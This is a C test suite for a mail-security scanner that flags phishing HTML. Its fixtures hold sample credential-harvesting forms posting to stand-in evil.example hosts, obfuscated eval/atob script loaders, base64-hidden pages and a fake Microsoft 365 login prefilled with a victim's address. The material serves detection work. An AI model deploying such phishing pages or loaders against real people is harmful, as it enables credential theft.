/* ks_html_scan, ks_html_accepts and ks_html_expand over the HTML phishing
 * really sends: remote script, password forms (also built by script),
 * obfuscated loaders with a base64 page inside, the victim's address
 * prefilled in plain or base64, a fake Microsoft 365 page with the victim's
 * logo, and a Japanese page in Shift_JIS.  Benign pages (analytics inline,
 * a relative script, a search form) must raise nothing. */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <cmocka.h>

#include "checks/analyze.h"
#include "payloads/html_attachment.h"
#include "payloads/html_scan.h"
#include "testlib.h"

#include <string.h>

#define RECIPIENT "hanako.sato@hoshizora-denko.co.jp"

static ks_report *report_to(const char *to)
{
	ks_report *r = ks_report_new();
	if (to)
		g_ptr_array_add(r->to, ks_address_new("Sato", to));
	return r;
}

/* Scans html as the attachment "part:2" into a fresh report whose
 * recipient is RECIPIENT; *node gets the attachment's metadata. */
static ks_report *scan_part(const char *html, ks_attachment **node)
{
	ks_report *r = report_to(RECIPIENT);
	ks_attachment *a = ks_attachment_new("2");
	ks_html_scan(html, strlen(html), "part:2", NULL, r, a);
	*node = a;
	return r;
}

static ks_report *scan_body(const char *html)
{
	ks_report *r = report_to(RECIPIENT);
	ks_html_scan(html, strlen(html), "body", NULL, r, NULL);
	return r;
}

static const ks_finding *must_find(const ks_report *r, ks_rule rule, const char *location)
{
	const ks_finding *f = find_rule(r, rule);
	if (!f)
		fail_msg("no %s finding", ks_rule_id(rule));
	assert_string_equal(f->location, location);
	return f;
}

static void assert_no_html_findings(const ks_report *r)
{
	for (guint i = 0; i < r->findings->len; i++) {
		const ks_finding *f = g_ptr_array_index(r->findings, i);
		if (g_str_has_prefix(ks_rule_id(f->rule), "html."))
			fail_msg("unexpected %s: %s", ks_rule_id(f->rule), f->evidence);
	}
}

static char *b64(const char *s)
{
	return g_base64_encode((const guchar *)s, strlen(s));
}

/* ---- html.remote_script ---------------------------------------------------- */

static void remote_script_in_attachment_is_reported_with_url_and_host(void **state)
{
	(void)state;
	ks_attachment *a;
	g_autoptr(ks_report) r = scan_part("<html><head><script src=\"https://cdn.evil.example/x.js\">"
	                                   "</script><script>var x = 1;</script></head></html>",
	                                   &a);
	const ks_finding *f = must_find(r, KS_RULE_HTML_REMOTE_SCRIPT, "part:2");
	assert_int_equal(f->severity, KS_SEV_HIGH);
	assert_contains(f->evidence, "cdn.evil.example");
	assert_true(has_ioc(r, KS_IOC_URL, "https://cdn.evil.example/x.js"));
	assert_true(has_ioc(r, KS_IOC_DOMAIN, "cdn.evil.example"));
	assert_string_equal(ks_attachment_get_meta(a, "html_scripts"), "2; remote from cdn.evil.example");
	ks_attachment_free(a);
}

static void protocol_relative_script_in_body_is_remote(void **state)
{
	(void)state;
	g_autoptr(ks_report) r = scan_body("<p>hi</p><script src='//assets.tracker.example/l.js'></script>");
	const ks_finding *f = must_find(r, KS_RULE_HTML_REMOTE_SCRIPT, "body");
	assert_contains(f->evidence, "assets.tracker.example");
	assert_true(has_ioc(r, KS_IOC_DOMAIN, "assets.tracker.example"));
}

static void relative_and_inline_scripts_raise_nothing(void **state)
{
	(void)state;
	ks_attachment *a;
	g_autoptr(ks_report) r = scan_part(
		"<html><body><script src=\"js/app.js\"></script><p>&copy; <script>"
		"document.write(new Date().getFullYear());</script> ACME</p>"
		"<form action=\"/search\"><input type=\"text\" name=\"q\"></form></body></html>",
		&a);
	assert_no_html_findings(r);
	assert_int_equal(r->iocs->len, 0);
	assert_string_equal(ks_attachment_get_meta(a, "html_scripts"), "2");
	ks_attachment_free(a);
}

static void script_element_built_at_run_time_is_remote(void **state)
{
	(void)state;
	g_autoptr(ks_report) r = scan_body(
		"<script>var d=document, g=d.createElement('script');"
		"g.async=true; g.src='https://loader.evil.example/c.js'; "
		"d.body.appendChild(g);</script>");
	const ks_finding *f = must_find(r, KS_RULE_HTML_REMOTE_SCRIPT, "body");
	assert_contains(f->evidence, "https://loader.evil.example/c.js");
}

/* ---- html.credential_form ---------------------------------------------------- */

static void password_field_posting_elsewhere_is_high(void **state)
{
	(void)state;
	ks_attachment *a;
	g_autoptr(ks_report) r = scan_part(
		"<form method=post action=\"https://collect.evil.example/p.php\">"
		"<input type=email name=login><INPUT TYPE=\"Password\" name=pw></form>",
		&a);
	const ks_finding *f = must_find(r, KS_RULE_HTML_CREDENTIAL_FORM, "part:2");
	assert_int_equal(f->severity, KS_SEV_HIGH);
	assert_contains(f->evidence, "1 password field");
	assert_contains(f->evidence, "posts to https://collect.evil.example/p.php");
	assert_true(has_ioc(r, KS_IOC_URL, "https://collect.evil.example/p.php"));
	assert_string_equal(ks_attachment_get_meta(a, "html_forms"),
	                    "POST https://collect.evil.example/p.php");
	assert_string_equal(ks_attachment_get_meta(a, "html_password_fields"), "1");
	ks_attachment_free(a);
}

/* A kit's first step: the account alone, posted elsewhere. */
static void form_asking_for_an_account_posting_elsewhere_is_medium(void **state)
{
	(void)state;
	g_autoptr(ks_report) r = scan_body("<form action=\"https://verify.evil.example/step1\">"
	                                   "<input name=loginfmt placeholder=\"Email or phone\">"
	                                   "<input type=submit value=Next></form>");
	const ks_finding *f = must_find(r, KS_RULE_HTML_CREDENTIAL_FORM, "body");
	assert_int_equal(f->severity, KS_SEV_MEDIUM);
	assert_contains(f->evidence, "asks for an account (loginfmt)");
	assert_contains(f->evidence, "posts to https://verify.evil.example/step1");
	ks_attachment *a;
	g_autoptr(ks_report) r2 = scan_part("<form method=post action=\"https://docs.evil.example/\">"
	                                    "<p>Enter your e-mail to open the document</p>"
	                                    "<input type=email name=em><button>Open</button></form>",
	                                    &a);
	assert_int_equal(must_find(r2, KS_RULE_HTML_CREDENTIAL_FORM, "part:2")->severity,
	                 KS_SEV_MEDIUM);
	ks_attachment_free(a);
}

/* Near misses: forms that post elsewhere but ask for no account. */
static void survey_search_and_unsubscribe_forms_are_not_credential_forms(void **state)
{
	(void)state;
	const char *pages[] = {
		"<form action=\"https://survey.example/answer\">"
		"<input type=radio name=a value=1><input type=submit></form>",
		"<form method=get action=\"https://www.outdoor-shop.example/search\">"
		"<input type=search name=q placeholder=\"Search products\"><button>Go</button></form>",
		"<form method=post action=\"http://www.userland.example/dailyUpdatesUnsubscribe\">"
		"<input type=hidden name=recipient value=\"" RECIPIENT "\">"
		"<input type=submit value=Unsubscribe></form>",
	};
	for (size_t i = 0; i < G_N_ELEMENTS(pages); i++) {
		g_autoptr(ks_report) r = scan_body(pages[i]);
		assert_null(find_rule(r, KS_RULE_HTML_CREDENTIAL_FORM));
	}
}

/* A newsletter's sign-up box asks for an address to write to, in any of
 * the languages of the word list; the same field under "Sign in" counts. */
static void newsletter_signup_box_is_not_a_credential_form(void **state)
{
	(void)state;
	const char *boxes[] = {
		"<form action=\"https://shop.us5.list-manage.example/subscribe/post\" method=post>"
		"<input type=email name=EMAIL placeholder=\"Your email\">"
		"<input type=submit value=Subscribe></form>",
		"<table><tr><td><form action=\"https://news.kaufhaus.example/anmelden\">"
		"Newsletter abonnieren: <input type=text name=email></form></td></tr></table>",
		"<form action=\"https://mag.example.jp/reg\"><input name=mail>"
		"<button>メルマガを購読する</button></form>",
	};
	for (size_t i = 0; i < G_N_ELEMENTS(boxes); i++) {
		g_autoptr(ks_report) r = scan_body(boxes[i]);
		if (find_rule(r, KS_RULE_HTML_CREDENTIAL_FORM))
			fail_msg("box %zu: %s", i, find_rule(r, KS_RULE_HTML_CREDENTIAL_FORM)->evidence);
	}
	g_autoptr(ks_report) r = scan_body(
		"<form action=\"https://shop.us5.list-manage.example/signin\" method=post>"
		"<input type=email name=EMAIL><input type=submit value=\"Sign in\"></form>");
	assert_int_equal(must_find(r, KS_RULE_HTML_CREDENTIAL_FORM, "body")->severity,
	                 KS_SEV_MEDIUM);
}

/* A password field is a credential form even inside a "newsletter" box. */
static void password_in_a_signup_box_is_still_high(void **state)
{
	(void)state;
	g_autoptr(ks_report) r = scan_body(
		"<form action=\"https://collect.evil.example/\"><p>Subscribe to our newsletter</p>"
		"<input type=email name=e><input type=password name=p></form>");
	assert_int_equal(must_find(r, KS_RULE_HTML_CREDENTIAL_FORM, "body")->severity,
	                 KS_SEV_HIGH);
}

/* A newsletter's body copied from its web site carries the site's scripts,
 * which no mail client runs: low there, high in an attachment or in the
 * body of mail that is not bulk. */
static void remote_script_in_newsletter_body_is_low(void **state)
{
	(void)state;
	const char *html = "<html><head><script src=\"https://www.googletagmanager.example/gtm.js\">"
	                   "</script></head><body><p>Autumn sale</p></body></html>";
	g_autoptr(ks_report) r = report_to(RECIPIENT);
	r->list.unsubscribe = true;
	ks_html_scan(html, strlen(html), "body", NULL, r, NULL);
	const ks_finding *f = must_find(r, KS_RULE_HTML_REMOTE_SCRIPT, "body");
	assert_int_equal(f->severity, KS_SEV_LOW);
	assert_contains(f->evidence, "mail clients do not run");
	g_autoptr(ks_report) plain = scan_body(html);
	assert_int_equal(must_find(plain, KS_RULE_HTML_REMOTE_SCRIPT, "body")->severity,
	                 KS_SEV_HIGH);
	/* a newsletter without list headers still offers to unsubscribe */
	g_autoptr(ks_report) footer = scan_body(
		"<script src=\"http://ad.doubleclick.example/adj/news;sz=468x60\"></script>"
		"<p>This week in open source</p><p><font size=1>To stop receiving this newsletter, "
		"<a href=\"http://news.example.com/u?id=7\"><b>Unsubscribe</b> here</a></font></p>");
	assert_int_equal(must_find(footer, KS_RULE_HTML_REMOTE_SCRIPT, "body")->severity,
	                 KS_SEV_LOW);
	g_autoptr(ks_report) bulk = report_to(RECIPIENT);
	bulk->list.unsubscribe = true;
	ks_attachment *a = ks_attachment_new("2");
	ks_html_scan(html, strlen(html), "part:2", NULL, bulk, a);
	assert_int_equal(must_find(bulk, KS_RULE_HTML_REMOTE_SCRIPT, "part:2")->severity,
	                 KS_SEV_HIGH);
	ks_attachment_free(a);
}

static void password_field_built_by_script_is_found(void **state)
{
	(void)state;
	ks_attachment *a;
	g_autoptr(ks_report) r = scan_part(
		"<div id=f></div><script>var i = document.createElement('input');"
		"i.type = 'password'; document.getElementById('f').appendChild(i);</script>",
		&a);
	const ks_finding *f = must_find(r, KS_RULE_HTML_CREDENTIAL_FORM, "part:2");
	assert_contains(f->evidence, "a password field built by script");
	assert_int_equal(f->severity, KS_SEV_HIGH);
	ks_attachment_free(a);
}

static void ordinary_word_password_in_script_is_not_a_field(void **state)
{
	(void)state;
	g_autoptr(ks_report) r = scan_body("<script>var msg = 'Forgot your password?';</script>");
	assert_no_html_findings(r);
}

/* ---- html.obfuscated_script -------------------------------------------------- */

static void eval_of_atob_is_obfuscated(void **state)
{
	(void)state;
	g_autoptr(ks_report) r = scan_body("<script>eval(atob('YWxlcnQoMSk='));</script>");
	const ks_finding *f = must_find(r, KS_RULE_HTML_OBFUSCATED_SCRIPT, "body");
	assert_contains(f->evidence, "eval");
	assert_contains(f->evidence, "atob");
}

static void document_write_alone_is_not_obfuscated(void **state)
{
	(void)state;
	g_autoptr(ks_report) r = scan_body("<script>document.write('<p>hello</p>');</script>");
	assert_null(find_rule(r, KS_RULE_HTML_OBFUSCATED_SCRIPT));
}

static void identifiers_containing_markers_do_not_count(void **state)
{
	(void)state;
	g_autoptr(ks_report) r = scan_body("<script>jQuery.globalEval(x); var medieval = 1;"
	                                   "myatob(y); document.writer = 2;</script>");
	assert_null(find_rule(r, KS_RULE_HTML_OBFUSCATED_SCRIPT));
}

static void base64_page_is_decoded_once_and_scanned(void **state)
{
	(void)state;
	g_autofree char *inner = b64("<html><script src=\"https://kit.evil.example/k.js\"></script>"
	                             "<form action=\"https://collect.evil.example/x\">"
	                             "<input type=\"password\"></form></html>");
	g_autofree char *page = g_strdup_printf("<script>document.write(atob(\"%s\"));</script>", inner);
	ks_attachment *a;
	g_autoptr(ks_report) r = scan_part(page, &a);
	const ks_finding *ob = must_find(r, KS_RULE_HTML_OBFUSCATED_SCRIPT, "part:2");
	assert_contains(ob->evidence, "document.write");
	assert_contains(ob->evidence, "HTML (from base64)");
	assert_contains(ob->evidence, "a remote script (from base64)");
	assert_contains(must_find(r, KS_RULE_HTML_REMOTE_SCRIPT, "part:2")->evidence,
	                "kit.evil.example");
	assert_contains(must_find(r, KS_RULE_HTML_CREDENTIAL_FORM, "part:2")->evidence,
	                "https://collect.evil.example/x");
	assert_true(has_ioc(r, KS_IOC_DOMAIN, "kit.evil.example"));
	ks_attachment_free(a);
}

static void blob_inside_decoded_blob_is_not_decoded_again(void **state)
{
	(void)state;
	g_autofree char *level2 = b64("<script src=\"https://deep.evil.example/d.js\"></script>"
	                              "<p>padding padding padding</p>");
	g_autofree char *level1_js = g_strdup_printf("document.write(atob(\"%s\"));", level2);
	g_autofree char *level1 = b64(level1_js);
	g_autofree char *page = g_strdup_printf("<script>eval(atob(\"%s\"));</script>", level1);
	g_autoptr(ks_report) r = scan_body(page);
	assert_non_null(find_rule(r, KS_RULE_HTML_OBFUSCATED_SCRIPT));
	assert_null(find_rule(r, KS_RULE_HTML_REMOTE_SCRIPT));
	assert_false(has_ioc(r, KS_IOC_DOMAIN, "deep.evil.example"));
}

static void percent_escaped_script_is_decoded(void **state)
{
	(void)state;
	/* unescape("<script src=https://esc.evil.example/e.js></script>") */
	g_autoptr(ks_report) r = scan_body(
		"<script>document.write(unescape('%3C%73%63%72%69%70%74%20%73%72%63%3D%68%74%74%70%73"
		"%3A%2F%2F%65%73%63%2E%65%76%69%6C%2E%65%78%61%6D%70%6C%65%2F%65%2E%6A%73%3E%3C%2F%73"
		"%63%72%69%70%74%3E'));</script>");
	assert_non_null(find_rule(r, KS_RULE_HTML_OBFUSCATED_SCRIPT));
	assert_contains(must_find(r, KS_RULE_HTML_REMOTE_SCRIPT, "body")->evidence,
	                "esc.evil.example");
}

static void event_handler_and_reversed_string_are_scripts(void **state)
{
	(void)state;
	g_autoptr(ks_report) r = scan_body(
		"<body onload=\"eval('lmth.x/elpmaxe.live//:sptth'.split('').reverse().join(''))\">"
		"</body>");
	const ks_finding *f = must_find(r, KS_RULE_HTML_OBFUSCATED_SCRIPT, "body");
	assert_contains(f->evidence, "string reversal");
}

static void inline_jpeg_data_uri_is_counted_not_scanned(void **state)
{
	(void)state;
	ks_attachment *a;
	g_autoptr(ks_report) r = scan_part(
		"<style>.bg{background-image:url(\"data:image/jpeg;base64,/9j/4AAQSkZJRgABAQEAkACQAAD/"
		"4gHbSUNDX1BST0ZJTEUAAQEAAAHLAAAAAAJAAABtbnRyUkdCIFhZWiAAAAAAAAAAAAAAAABhY3Nw\")}</style>"
		"<img src=\"data:image/png;base64,iVBORw0KGgo=\">",
		&a);
	assert_no_html_findings(r);
	assert_string_equal(ks_attachment_get_meta(a, "html_data_uris"), "2");
	ks_attachment_free(a);
}

static void data_uri_iframe_page_is_decoded(void **state)
{
	(void)state;
	g_autofree char *inner = b64("<form action='https://drop.evil.example/c'>"
	                             "<input type='password'></form>");
	g_autofree char *page = g_strdup_printf("<iframe src=\"data:text/html;base64,%s\"></iframe>",
	                                        inner);
	ks_attachment *a;
	g_autoptr(ks_report) r = scan_part(page, &a);
	assert_contains(must_find(r, KS_RULE_HTML_CREDENTIAL_FORM, "part:2")->evidence,
	                "drop.evil.example");
	assert_string_equal(ks_attachment_get_meta(a, "html_iframes"), "data: URI");
	assert_string_equal(ks_attachment_get_meta(a, "html_data_uris"), "1");
	ks_attachment_free(a);
}

/* ---- redirects ---------------------------------------------------------------- */

static void meta_refresh_and_location_assignments_are_recorded(void **state)
{
	(void)state;
	ks_attachment *a;
	g_autoptr(ks_report) r = scan_part(
		"<meta http-equiv=\"Refresh\" content=\"0; URL='https://next.evil.example/a'\">"
		"<script>if (window.location.href == 'x') {}"
		"window.location.replace(\"https://hop.evil.example/b\");"
		"location.href = base + '/c'; document.location = 'https://doc.evil.example/d';"
		"</script>",
		&a);
	assert_string_equal(ks_attachment_get_meta(a, "html_meta_refresh"),
	                    "https://next.evil.example/a");
	assert_string_equal(ks_attachment_get_meta(a, "html_redirects"),
	                    "https://hop.evil.example/b, (computed), https://doc.evil.example/d");
	assert_true(has_ioc(r, KS_IOC_URL, "https://next.evil.example/a"));
	assert_true(has_ioc(r, KS_IOC_DOMAIN, "hop.evil.example"));
	assert_true(has_ioc(r, KS_IOC_DOMAIN, "doc.evil.example"));
	assert_no_html_findings(r);
	ks_attachment_free(a);
}

/* An attachment that is only a redirect fires, and its targets join the
 * mail's links at its part; one with a page of text or a form does not,
 * nor does a body. */
static void attachment_that_only_redirects_fires(void **state)
{
	(void)state;
	ks_attachment *a;
	g_autoptr(ks_report) r = scan_part(
		"<html><head><meta http-equiv=\"refresh\" content=\"0;url=https://docs-view.example/f\">"
		"</head><body>Loading document, please wait...</body></html>",
		&a);
	const ks_finding *f = must_find(r, KS_RULE_ATTACHMENT_HTML_REDIRECT, "part:2");
	assert_contains(f->evidence, "meta refresh to https://docs-view.example/f");
	assert_int_equal(f->severity, KS_SEV_HIGH);
	assert_int_equal(r->links->len, 1);
	const ks_link *l = g_ptr_array_index(r->links, 0);
	assert_string_equal(l->href, "https://docs-view.example/f");
	assert_string_equal(l->location, "part:2");
	assert_string_equal(l->text, "[meta refresh]");
	ks_attachment_free(a);

	g_autoptr(ks_report) js = scan_part(
		"<script>var u = atob('aHR0cHM6Ly94LmV4YW1wbGUv'); window.location.href = u;</script>",
		&a);
	must_find(js, KS_RULE_ATTACHMENT_HTML_REDIRECT, "part:2");
	ks_attachment_free(a);

	GString *page = g_string_new("<meta http-equiv=\"refresh\" content=\"30;url=/next\"><p>");
	for (int i = 0; i < 40; i++)
		g_string_append(page, "Quarterly figures are in the table below. ");
	g_autoptr(ks_report) text = scan_part(page->str, &a);
	g_string_free(page, TRUE);
	assert_null(find_rule(text, KS_RULE_ATTACHMENT_HTML_REDIRECT));
	ks_attachment_free(a);

	g_autoptr(ks_report) form = scan_part(
		"<form action=\"https://c2.example/p\"><input type=\"password\"></form>"
		"<script>location.href='https://c2.example/done'</script>",
		&a);
	assert_null(find_rule(form, KS_RULE_ATTACHMENT_HTML_REDIRECT));
	ks_attachment_free(a);

	/* a saved site's frame page: the target is a file beside it */
	g_autoptr(ks_report) local = scan_part(
		"<meta http-equiv=\"refresh\" content=\"0;url=Pull1.html\"><p>Loading</p>", &a);
	assert_null(find_rule(local, KS_RULE_ATTACHMENT_HTML_REDIRECT));
	ks_attachment_free(a);
	/* a host without a scheme still leaves */
	g_autoptr(ks_report) hostonly = scan_part(
		"<meta http-equiv=\"refresh\" content=\"0;url=//files-view.example/d\">", &a);
	must_find(hostonly, KS_RULE_ATTACHMENT_HTML_REDIRECT, "part:2");
	ks_attachment_free(a);

	g_autoptr(ks_report) body =
		scan_body("<meta http-equiv=\"refresh\" content=\"0;url=https://x.example/\">");
	assert_null(find_rule(body, KS_RULE_ATTACHMENT_HTML_REDIRECT));
	assert_int_equal(body->links->len, 0);
}

/* ---- the recipient, the brand, the logo ----------------------------------------- */

static void recipient_address_is_found_plain(void **state)
{
	(void)state;
	ks_attachment *a;
	g_autoptr(ks_report) r = scan_part("<input type=hidden name=u value=\"Hanako.Sato@Hoshizora-Denko.co.jp\">", &a);
	assert_string_equal(ks_attachment_get_meta(a, "html_recipient_embedded"),
	                    RECIPIENT " (plain)");
	ks_attachment_free(a);
}

static void recipient_address_is_found_in_base64_at_every_alignment(void **state)
{
	(void)state;
	const char *prefixes[] = {"", "x", "xy", "email=", NULL};
	for (const char *const *p = prefixes; *p; p++) {
		g_autofree char *raw = g_strconcat(*p, RECIPIENT, "&next=1", NULL);
		g_autofree char *enc = b64(raw);
		g_autofree char *page = g_strdup_printf("<a href=\"https://kit.example/#%s\">open</a>", enc);
		ks_attachment *a;
		g_autoptr(ks_report) r = scan_part(page, &a);
		const char *got = ks_attachment_get_meta(a, "html_recipient_embedded");
		if (!got || strcmp(got, RECIPIENT " (base64)") != 0)
			fail_msg("prefix \"%s\": got %s", *p, got ? got : "nothing");
		ks_attachment_free(a);
	}
}

static void other_addresses_are_not_the_recipient(void **state)
{
	(void)state;
	ks_attachment *a;
	g_autoptr(ks_report) r = scan_part("<p>contact support@example.com</p>", &a);
	assert_null(ks_attachment_get_meta(a, "html_recipient_embedded"));
	ks_attachment_free(a);
}

static void fake_microsoft_page_with_victim_logo_names_brand_and_logo(void **state)
{
	(void)state;
	ks_attachment *a;
	g_autoptr(ks_report) r = scan_part(
		"<html><head><title>Sign in to your account</title></head><body>"
		"<img src=\"https://logo.clearbit.com/hoshizora-denko.co.jp\" alt=\"logo\">"
		"<form method=post action=\"https://m365.evil.example/next.php\">"
		"<input name=login value=\"" RECIPIENT "\"><input type=password name=passwd>"
		"</form></body></html>",
		&a);
	assert_string_equal(ks_attachment_get_meta(a, "html_brand"), "Microsoft 365");
	assert_string_equal(ks_attachment_get_meta(a, "html_logo_domains"),
	                    "hoshizora-denko.co.jp via logo.clearbit.com");
	const ks_finding *f = must_find(r, KS_RULE_HTML_CREDENTIAL_FORM, "part:2");
	assert_contains(f->evidence, "imitates Microsoft 365 but posts to m365.evil.example");
	assert_contains(f->evidence, "prefilled with the recipient's address");
	assert_contains(f->evidence, "logo of hoshizora-denko.co.jp");
	ks_attachment_free(a);
}

static void logo_fetched_by_script_names_the_service(void **state)
{
	(void)state;
	ks_attachment *a;
	g_autoptr(ks_report) r = scan_part(
		"<script>var d = email.split('@')[1];"
		"logo.src = 'https://www.google.com/s2/favicons?domain=' + d;</script>",
		&a);
	assert_string_equal(ks_attachment_get_meta(a, "html_logo_domains"),
	                    "(computed) via www.google.com");
	ks_attachment_free(a);
}

static void brand_page_posting_to_its_own_domain_is_not_called_foreign(void **state)
{
	(void)state;
	g_autoptr(ks_report) r = scan_body(
		"<title>Dropbox</title><form action=\"https://www.dropbox.com/login\">"
		"<input type=password></form>");
	const ks_finding *f = must_find(r, KS_RULE_HTML_CREDENTIAL_FORM, "body");
	assert_contains(f->evidence, "the page imitates Dropbox");
	assert_null(strstr(f->evidence, "but posts to"));
}

static void brand_word_inside_another_word_is_not_the_brand(void **state)
{
	(void)state;
	ks_attachment *a;
	g_autoptr(ks_report) r = scan_part("<title>Pineapple recipes</title><p>excellent</p>", &a);
	assert_null(ks_attachment_get_meta(a, "html_brand"));
	assert_string_equal(ks_attachment_get_meta(a, "html_title"), "Pineapple recipes");
	ks_attachment_free(a);
}

/* ---- attachments end to end ------------------------------------------------------- */

/* A message from a hijacked account with one HTML attachment: base64,
 * text/html without a charset, Shift_JIS declared only by <meta>. */
static ks_report *analyze_with_attachment(const char *filename, const char *content_type,
                                          const char *bytes, gsize len)
{
	g_autofree char *enc = g_base64_encode((const guchar *)bytes, len);
	g_autofree char *raw = g_strdup_printf(
		"From: Tanaka <ichiro.tanaka@kogane-parts.co.jp>\r\n"
		"To: Sato <" RECIPIENT ">\r\n"
		"Subject: quote\r\n"
		"Date: Thu, 12 Dec 2024 13:48:02 +0900\r\n"
		"Message-ID: <1@kogane-parts.co.jp>\r\n"
		"MIME-Version: 1.0\r\n"
		"Content-Type: multipart/mixed; boundary=\"b\"\r\n\r\n"
		"--b\r\nContent-Type: text/plain; charset=us-ascii\r\n\r\nsee attached\r\n"
		"--b\r\nContent-Type: %s; name=\"%s\"\r\n"
		"Content-Disposition: attachment; filename=\"%s\"\r\n"
		"Content-Transfer-Encoding: base64\r\n\r\n%s\r\n--b--\r\n",
		content_type, filename, filename, enc);
	g_autoptr(GBytes) b = g_bytes_new(raw, strlen(raw));
	g_autoptr(GError) err = NULL;
	ks_report *r = ks_analyze_bytes(b, "test.eml", "eml", NULL, &err);
	assert_non_null(r);
	return r;
}

static const ks_attachment *first_attachment(const ks_report *r)
{
	assert_true(r->attachments->len >= 1);
	return g_ptr_array_index(r->attachments, 0);
}

static void shift_jis_page_declared_by_meta_is_decoded(void **state)
{
	(void)state;
	static const char page[] =
		"<html><head><meta http-equiv=\"Content-Type\" content=\"text/html; charset=Shift_JIS\">"
		"<title>\x8E\x4F\x88\xE4\x8F\x5A\x97\x46\x83\x4A\x81\x5B\x83\x68 "
		"\x83\x8D\x83\x4F\x83\x43\x83\x93</title></head><body>"
		"<form action=\"https://smbc-card.evil.example/login\">"
		"\x83\x70\x83\x58\x83\x8F\x81\x5B\x83\x68<input type=\"password\"></form>"
		"<a href=\"https://smbc-card.evil.example/r\">https://www.smbc-card.com/</a>"
		"</body></html>";
	g_autoptr(ks_report) r = analyze_with_attachment("login.htm", "application/octet-stream",
	                                                 page, sizeof page - 1);
	const ks_attachment *a = first_attachment(r);
	assert_string_equal(ks_attachment_get_meta(a, "html_title"),
	                    "三井住友カード ログイン");
	assert_string_equal(ks_attachment_get_meta(a, "html_brand"), "三井住友カード");
	const ks_finding *f = must_find(r, KS_RULE_HTML_CREDENTIAL_FORM, "part:2");
	assert_contains(f->evidence, "imitates 三井住友カード but posts to smbc-card.evil.example");
	assert_contains(must_find(r, KS_RULE_HTML_LINK_TEXT_MISMATCH, "part:2")->evidence,
	                "smbc-card.evil.example");
}

static void svg_attachment_with_remote_script_is_scanned(void **state)
{
	(void)state;
	static const char svg[] =
		"<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\">"
		"<script xlink:href=\"https://svg.evil.example/s.js\"/>"
		"<script><![CDATA[window.location.href = 'https://land.evil.example/';]]></script>"
		"</svg>";
	g_autoptr(ks_report) r = analyze_with_attachment("invoice.svg", "image/svg+xml", svg,
	                                                 sizeof svg - 1);
	assert_contains(must_find(r, KS_RULE_HTML_REMOTE_SCRIPT, "part:2")->evidence,
	                "svg.evil.example");
	assert_string_equal(ks_attachment_get_meta(first_attachment(r), "html_redirects"),
	                    "https://land.evil.example/");
}

static void accepts_by_type_name_and_first_bytes_only(void **state)
{
	(void)state;
	struct {
		const char *name, *detected;
		const char *bytes;
		bool want;
	} cases[] = {
		{"a.bin", "text/html", "<p>x</p>", true},
		{"Invoice.HTML", "text/plain", "hello", true},
		{"x.shtml", "text/plain", "hello", true},
		{"y.dat", "application/octet-stream", "\xEF\xBB\xBF  \r\n<!DOCTYPE HTML><p>", true},
		{"y.dat", "application/octet-stream", "<!-- c --><SCRIPT>x</SCRIPT>", true},
		{"notes.txt", "text/plain", "see <html> later", false},
		{"doc.pdf", "application/pdf", "%PDF-1.7 <html>", false},
		{"page.html", "application/zip", "PK\x03\x04", false},
	};
	for (size_t i = 0; i < G_N_ELEMENTS(cases); i++) {
		ks_attachment *a = ks_attachment_new("1");
		a->filename = g_strdup(cases[i].name);
		a->detected_type = g_strdup(cases[i].detected);
		a->data = g_bytes_new(cases[i].bytes, strlen(cases[i].bytes));
		if (ks_html_accepts(a) != cases[i].want)
			fail_msg("case %zu (%s): accepts should be %d", i, cases[i].name, cases[i].want);
		ks_attachment_free(a);
	}
}

/* ---- hostile input ---------------------------------------------------------------- */

static void soup_nesting_and_nul_bytes_do_not_crash(void **state)
{
	(void)state;
	GString *s = g_string_new("<html><body>");
	for (int i = 0; i < 20000; i++)
		g_string_append(s, "<div><a href='https://x.example/'><form action=//f.example/>");
	g_string_append(s, "<script>eval(atob('");
	for (int i = 0; i < 5000; i++)
		g_string_append(s, "QUJD");
	g_string_append(s, "'))</script><input type=password");
	g_string_append_len(s, "\0<script src=https://nul.example/>", 34);
	ks_attachment *a;
	ks_report *r = report_to(RECIPIENT);
	a = ks_attachment_new("3");
	ks_html_scan(s->str, s->len, "part:3", NULL, r, a);
	assert_non_null(find_rule(r, KS_RULE_HTML_OBFUSCATED_SCRIPT));
	ks_attachment_free(a);
	ks_report_free(r);
	g_string_free(s, TRUE);
	/* empty and unclosed inputs */
	g_autoptr(ks_report) r2 = scan_body("<script>window.location = '");
	assert_no_html_findings(r2);
	g_autoptr(ks_report) r3 = report_to(NULL);
	ks_html_scan("", 0, "body", NULL, r3, NULL);
	assert_int_equal(r3->findings->len, 0);
}

/* ks_html_find_ci: the first place, in either case, within the length
 * given: not past it, and not stopped by a NUL byte before the match */
static void find_ci_finds_the_first_place_in_either_case(void **state)
{
	(void)state;
	static const char hay[] = "xx Victim@Example.COM then victim@example.com\0 VICTIM@example.com";
	gsize len = sizeof hay - 1;
	assert_ptr_equal(ks_html_find_ci(hay, len, "victim@example.com"), hay + 3);
	assert_ptr_equal(ks_html_find_ci(hay, len, "THEN"), hay + 22);
	assert_ptr_equal(ks_html_find_ci(hay + 28, len - 28, "VICTIM@EXAMPLE.COM"), hay + 47);
	assert_ptr_equal(ks_html_find_ci(hay, len - 1, "example.coM"), hay + 10);
	assert_null(ks_html_find_ci(hay + 48, len - 48, "victim"));
	static const char abc[] = "abc";
	assert_ptr_equal(ks_html_find_ci(abc, 3, "BC"), abc + 1);
	assert_null(ks_html_find_ci(abc, 2, "bc"));
	assert_null(ks_html_find_ci(abc, 3, "abcd"));
	assert_null(ks_html_find_ci(abc, 3, ""));
	/* a first byte that is no letter */
	static const char esc[] = "a%40b %40C";
	assert_ptr_equal(ks_html_find_ci(esc, 10, "%40c"), esc + 6);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(remote_script_in_attachment_is_reported_with_url_and_host),
		cmocka_unit_test(protocol_relative_script_in_body_is_remote),
		cmocka_unit_test(relative_and_inline_scripts_raise_nothing),
		cmocka_unit_test(script_element_built_at_run_time_is_remote),
		cmocka_unit_test(password_field_posting_elsewhere_is_high),
		cmocka_unit_test(form_asking_for_an_account_posting_elsewhere_is_medium),
		cmocka_unit_test(survey_search_and_unsubscribe_forms_are_not_credential_forms),
		cmocka_unit_test(newsletter_signup_box_is_not_a_credential_form),
		cmocka_unit_test(password_in_a_signup_box_is_still_high),
		cmocka_unit_test(remote_script_in_newsletter_body_is_low),
		cmocka_unit_test(password_field_built_by_script_is_found),
		cmocka_unit_test(ordinary_word_password_in_script_is_not_a_field),
		cmocka_unit_test(eval_of_atob_is_obfuscated),
